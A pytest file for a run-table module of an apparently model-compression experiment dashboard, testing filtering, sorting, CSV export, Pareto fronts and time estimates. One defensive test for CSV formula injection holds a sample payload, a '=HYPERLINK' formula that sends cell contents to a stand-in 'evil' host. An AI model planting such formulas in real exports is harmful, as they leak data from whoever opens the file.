"""ui.run_table without a server: rows from run records, filters and sort on raw values, CSV, one Pareto front per
base model and evaluation set, the expected wall time from earlier runs, upload labels."""
import csv
import io
from datetime import datetime, timedelta, timezone
from types import SimpleNamespace

import pytest

from ui.run_table import (csv_text, expected_seconds, filter_sort, fit_time, model_label, pareto_groups, run_row,
                          whole_run_eta, work_tokens)

T0 = datetime(2026, 1, 1, tzinfo=timezone.utc)
HASH = "ab" * 32


def _run(i, *, status="succeeded", model="demo", keep=0.5, ppl=None, active=None, size=None, seconds=None,
         tags=(), notes="", base=None, eval_tokens=512, steps=10, progress=1.0):
    metrics = {}
    if ppl is not None:
        metrics = {"perplexity": ppl, "params_active": active, "checkpoint_bytes": size}
        if base:
            metrics.update(baseline_perplexity=base[0], baseline_params_active=base[1])   # as metrics.json has them
    recipe = {"model": model, "slimming": {"expert_keep_ratio": keep}, "stages": 1,
              "distill": {"steps": steps, "batch_size": 4, "seq_len": 64},
              "calibration": {"tokens": 512}, "evaluate": {"tokens": eval_tokens, "seq_len": 64}}
    return SimpleNamespace(id=i, name=f"r{i}", status=status, progress=progress, stage="", message="",
                           recipe=recipe, metrics=metrics or None, tags=list(tags), notes=notes,
                           parent_run_id=None, created_at=T0 + timedelta(minutes=i),
                           started_at=T0 if seconds else None,
                           finished_at=T0 + timedelta(seconds=seconds) if seconds else None, heartbeat_at=None)


RUNS = [_run(1, ppl=90.0, active=3e6, size=12e6, seconds=30, tags=["base"]),
        _run(2, keep=0.25, ppl=120.0, active=2e6, size=8e6, seconds=20, tags=["base", "cut"], notes="too small"),
        _run(3, status="failed", keep=0.75),
        _run(4, model=f"/cache/uploads/{HASH}.zip", ppl=40.0, active=9e6, seconds=50)]


def test_filter_and_sort_on_raw_values_with_empty_values_last():
    rows = [run_row(r) for r in RUNS]
    ids = lambda rs: [r.run for r in rs]                                          # noqa: E731
    assert ids(filter_sort(rows, sort="perplexity", descending=False)) == [4, 1, 2, 3]
    assert ids(filter_sort(rows, sort="perplexity", descending=True)) == [2, 1, 4, 3]
    assert ids(filter_sort(rows, sort="keep ratio")) == [3, 4, 1, 2]            # 0.75, 0.5 (id 4 > 1), 0.25
    assert ids(filter_sort(rows, sort="size", descending=False)) == [2, 1, 3, 4]
    assert ids(filter_sort(rows, status=["succeeded"], model=["demo"])) == [2, 1]
    assert ids(filter_sort(rows, tag="cut, BASE")) == [2]
    assert ids(filter_sort(rows, text="TOO small")) == [2]
    with pytest.raises(ValueError, match="cannot sort by"):
        filter_sort(rows, sort="colour")


def test_csv_has_a_header_and_raw_numbers():
    out = list(csv.DictReader(io.StringIO(csv_text([run_row(r) for r in RUNS[:2]]))))
    assert [r["run"] for r in out] == ["1", "2"]
    assert out[1]["tags"] == "base,cut" and float(out[1]["size_bytes"]) == 8e6 and float(out[0]["seconds"]) == 30
    assert out[0]["notes"] == "" and out[1]["notes"] == "too small" and out[0]["model"] == "demo"


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_quoted_and_numbers_stay_numbers():
    # Issue 28: a run named =HYPERLINK(...) was written as a formula.
    run = _run(3, ppl=-0.5, active=3e6, size=12e6, seconds=30, tags=["@tag", "ok"], notes="+1 better")
    run.name = '=HYPERLINK("http://evil/?"&A1,"x")'
    rows = [run_row(run)]
    rows[0].message = "-2 steps"
    rows[0].stage = "\tcmd"
    [out] = list(csv.DictReader(io.StringIO(csv_text(rows))))
    assert out["name"] == '\'=HYPERLINK("http://evil/?"&A1,"x")'
    assert (out["notes"], out["tags"], out["message"], out["stage"]) == ("'+1 better", "'@tag,ok", "'-2 steps",
                                                                         "'\tcmd")
    assert out["perplexity"] == "-0.5" and float(out["size_bytes"]) == 12e6 and out["run"] == "3"


def test_uploads_are_labelled_by_their_name_never_by_the_hash():
    source = f"/cache/uploads/{HASH}.zip"
    assert model_label(source, {source: "mixtral-tiny.zip"}) == "mixtral-tiny.zip"
    assert model_label(source) == "upload abababab"
    assert model_label("demo") == "demo" and model_label("org/name@v1") == "org/name@v1"
    assert run_row(RUNS[3], {source: "mixtral-tiny.zip"}).model == "mixtral-tiny.zip"


def test_one_pareto_front_per_base_model_and_evaluation_set():
    runs = RUNS + [_run(5, ppl=80.0, active=2.5e6, base=(70.0, 4e6)), _run(6, ppl=85.0, active=2e6, eval_tokens=1024),
                   _run(7, model=f"/cache/uploads/{HASH}.zip", ppl=45.0, active=7e6, base=(35.0, 12e6))]
    groups = pareto_groups(runs, {f"/cache/uploads/{HASH}.zip": "mixtral-tiny.zip"})
    assert set(groups) == {"demo · eval 512 x 64", "demo · eval 1024 x 64", "mixtral-tiny.zip · eval 512 x 64"}
    demo, original = groups["demo · eval 512 x 64"]
    assert sorted(p["run_id"] for p in demo) == [1, 2, 5] and original == {"params_active": 4e6, "perplexity": 70.0}
    mixtral, original = groups["mixtral-tiny.zip · eval 512 x 64"]
    assert sorted(p["run_id"] for p in mixtral) == [4, 7] and original["perplexity"] == 35.0
    assert groups["demo · eval 1024 x 64"][1] is None                     # no baseline stored: no star


def test_expected_time_is_fitted_on_earlier_runs_of_the_same_model():
    assert expected_seconds(RUNS[0].recipe, [RUNS[3]]) == (None, "no earlier run of this model to estimate from")
    a, b = _run(10, steps=10, seconds=20), _run(11, steps=110, seconds=70)     # 20 s + 0.5 s per step
    wa, wb = work_tokens(a.recipe), work_tokens(b.recipe)
    assert wb - wa == 3 * 100 * 4 * 64
    fixed, per_token = fit_time([(wa, 20.0), (wb, 70.0)])
    assert per_token == pytest.approx(50.0 / (wb - wa)) and fixed == pytest.approx(20.0 - per_token * wa)
    seconds, basis = expected_seconds(_run(12, steps=210).recipe, [a, b, RUNS[3]])
    assert seconds == pytest.approx(120.0) and basis.startswith("from 2 earlier runs of this model")
    assert fit_time([(100.0, 10.0), (100.0, 30.0)]) == (0.0, 0.2)              # one work size: median rate


def test_whole_run_eta_from_progress_or_from_the_expected_time():
    running = _run(20, status="running", progress=0.25, seconds=None)
    running.started_at, running.heartbeat_at = T0, T0 + timedelta(seconds=30)
    assert whole_run_eta(running, 500.0) == pytest.approx(90.0)               # 30 s for 25%: 90 s left
    running.progress = 0.01
    assert whole_run_eta(running, 500.0) == pytest.approx(470.0)
    assert whole_run_eta(_run(21, status="queued", progress=0.0), 60.0) == 60.0
    assert whole_run_eta(RUNS[0], 60.0) is None and whole_run_eta(_run(22, status="queued"), None) is None


def test_figures_are_read_by_name_through_the_result_contract():
    from ui.run_table import baseline_metric, metric
    m = {"perplexity": 95.0, "baseline_perplexity": 92.0, "kl_to_baseline": 0.05, "top1_agreement": 0.8,
         "evaluation": {"speed": {"prefill_speedup": 1.3, "baseline_decode_tokens_per_s": 40.0,
                                  "decode_tokens_per_s": 44.0}}}
    assert metric(m, "kl_to_baseline") == 0.05                 # a key holding "baseline" is this model's KL
    assert metric(m, "perplexity") == 95.0 and baseline_metric(m, "perplexity") == 92.0
    assert metric(m, "prefill_speedup") == 1.3 and baseline_metric(m, "decode_tokens_per_s") == 40.0
    assert metric({}, "perplexity") is None
    with pytest.raises(KeyError, match="'ppl' is not a field of the result contract"):
        metric(m, "ppl")


def test_runs_are_compared_only_on_one_model_and_evaluation_set():
    from ui.run_table import why_not_comparable
    ev = {"text": "sotu held-out split", "tokens": 512, "seq_len": 64, "fingerprint": "f1"}

    def run(model="demo", eval_set=ev, tokens=512):
        metrics = {"source": {"model": model}, **({"eval_set": eval_set} if eval_set else {})}
        return SimpleNamespace(metrics=metrics, recipe={"model": model, "evaluate": {"tokens": tokens, "seq_len": 64}})
    assert why_not_comparable(run(), run()) is None
    assert "different evaluation sets" in why_not_comparable(run(), run(eval_set={**ev, "fingerprint": "f2"}))
    assert "different base models" in why_not_comparable(run(), run(model="other"))
    assert why_not_comparable(run(eval_set=None), run(eval_set=None)) is None      # older results: the recipes decide
    assert "16384 tokens" in why_not_comparable(run(eval_set=None), run(eval_set=None, tokens=16384))


def test_the_loss_curve_keeps_every_step_and_marks_the_stage_starts():
    from ui.run_view import loss_points
    new = SimpleNamespace(id=901, stages=[{"index": 1, "distill": {"steps": 2, "losses": [3.0, 2.5]}},
                                          {"index": 2, "distill": {"steps": 3, "losses": [2.9, 2.4, 2.2]}}])
    assert loss_points(new) == ([(1, 3.0), (2, 2.5), (3, 2.9), (4, 2.4), (5, 2.2)], [3])
    old = SimpleNamespace(id=902, stages=[{"index": 1, "distill": {"steps": 10, "first_loss": 3.0, "last_loss": 2.0}},
                                          {"index": 2, "distill": {"steps": 5, "first_loss": 2.5, "last_loss": 1.9}}])
    assert loss_points(old) == ([(1, 3.0), (10, 2.0), (11, 2.5), (15, 1.9)], [11])
